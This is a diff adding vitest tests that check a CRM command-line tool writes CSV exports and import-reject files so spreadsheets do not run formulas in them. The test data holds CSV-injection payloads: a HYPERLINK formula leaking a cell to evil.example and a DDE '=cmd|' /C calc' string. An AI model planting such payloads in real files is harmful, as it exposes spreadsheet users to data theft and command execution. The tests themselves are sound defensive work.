@@ -1,9 +1,10 @@
 // Reports, sweep, export and the create/update shortcuts, on the built binary, against one demo workspace
 // seeded once for the whole file (seeding and the first open of the embedded database are the slow part).
-import { mkdtempSync, readFileSync, rmSync } from "node:fs";
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
 import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { csvLine } from "../src/csv.ts";
 import { assertBuilt, cli, cliJson } from "./run-cli.ts";
 
 let dataDir: string;
@@ -375,6 +376,80 @@ describe("accountable export", () => {
     // Reimporting the same file skips every row.
     const again = await json<{ skipped: number; imported: number }>(["--workspace", "copy", "import", file]);
     expect(again).toMatchObject({ imported: 0, skipped: 3 });
+  });
+
+  it("writes hostile text so no spreadsheet runs it, and a re-import reads the original text back", async () => {
+    const account = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';
+    const names = ["@SUM(A1:A9)", "+1", "-1", "'=already quoted", "x;=cmd()", "=1+2"];
+    // Brought in by an import (one process instead of one per record), from a file written as the CLI writes.
+    const source = join(dataDir, "hostile-source.csv");
+    writeFileSync(
+      source,
+      [
+        ["kind", "name", "accountName", "amount", "closeDate", "phone"],
+        ...names.map((n) => ["opportunity", n, account, "10", "2027-06-30", ""]),
+        ["contact", "-Dash Person", account, "", "", "+49 30 1234567"],
+      ]
+        .map((cells) => csvLine(cells))
+        .join("\n"),
+    );
+    expect(await json([...["import", source, "--kind", "by-column"]])).toMatchObject({ rejected: 0 });
+
+    const all = await json<{ id: string; name: string }[]>(["export", "accounts", "--format", "json"]);
+    const accountId = all.find((a) => a.name === account)!.id;
+    const deals = join(dataDir, "hostile-deals.csv");
+    const contacts = join(dataDir, "hostile-contacts.csv");
+    await json(["export", "opp", "--account", accountId, "--out", deals]);
+    await json(["export", "contacts", "--account", accountId, "--out", contacts]);
+
+    // In the files, no cell starts with = + - @ (where a spreadsheet would start a formula).
+    for (const file of [deals, contacts]) {
+      const text = readFileSync(file, "utf8");
+      const cells = text.split(/\r?\n/).flatMap((line) => line.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
+      for (const cell of cells) expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
+      expect(text).toContain("'=HYPERLINK(");
+    }
+    expect(readFileSync(contacts, "utf8")).toContain("'+49 30 1234567");
+
+    await json([
+      "init",
+      "--workspace-id",
+      "hostile-copy",
+      "--name",
+      "Hostile copy",
+      "--admin-name",
+      "Ada Demo",
+      "--admin-email",
+      "admin@hostile.test",
+      "--admin-id",
+      "demo-admin",
+    ]);
+    const w = ["--workspace", "hostile-copy"];
+    expect(await json([...w, "import", deals])).toMatchObject({ rejected: 0 });
+    expect(await json([...w, "import", contacts, "--kind", "contact"])).toMatchObject({ rejected: 0 });
+    const copied = await json<Opportunity[]>([...w, "export", "opp", "--format", "json"]);
+    expect(copied.map((d) => d.name).sort()).toEqual([...names].sort());
+    const accounts = await json<{ name: string }[]>([...w, "export", "accounts", "--format", "json"]);
+    expect(accounts.map((a) => a.name)).toContain(account);
+    const people = await json<{ name: string; phone: string }[]>([
+      ...w,
+      "export",
+      "contacts",
+      "--format",
+      "json",
+    ]);
+    expect(people).toEqual([expect.objectContaining({ name: "-Dash Person", phone: "+49 30 1234567" })]);
+  }, 240_000);
+
+  it("writes the rejects file of an import spreadsheet-safe too", async () => {
+    const file = join(dataDir, "hostile-import.csv");
+    writeFileSync(file, "name,accountName,amount,closeDate\n\"=cmd|' /C calc'!A0\",@evil,12,not-a-date\n");
+    const summary = await json<{ rejected: number; rejectsFile: string }>(["import", file]);
+    expect(summary.rejected).toBe(1);
+    const rejects = readFileSync(summary.rejectsFile, "utf8");
+    expect(rejects).toContain("'=cmd|' /C calc'!A0");
+    expect(rejects).toContain("'@evil");
+    expect(rejects).not.toMatch(/(^|,)"?[=@]/m);
   });
 });
 
